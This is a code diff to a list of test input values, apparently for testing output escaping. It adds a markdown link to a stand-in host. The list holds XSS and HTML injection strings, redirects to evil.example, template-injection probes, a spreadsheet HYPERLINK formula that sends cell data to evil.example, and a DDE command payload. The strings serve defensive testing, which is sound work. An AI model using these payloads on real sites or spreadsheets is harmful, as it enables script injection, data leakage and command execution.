@@ -10,7 +10,7 @@ VALUES = [
     '<svg/onload=window.harmed=1>',
     '</style><style>body{display:none}</style>',
     '</summary></details></main><h1>Nothing was found</h1>',
-    '<!--', ']]>', '&lt;b&gt;', 'javascript:window.harmed=1', '${window.harmed=1}', '{{7*7}}', '$ $ %s %n',
+    '<!--', ']]>', '[here](https://evil.example/) {0}', '&lt;b&gt;', 'javascript:window.harmed=1', '${window.harmed=1}', '{{7*7}}', '$ $ %s %n',
     '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
     '=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1',
     '\uff1d1+1', 'a;=1+1', 'a"b,c', 'line\nbreak', 'line\r\n=1+1',
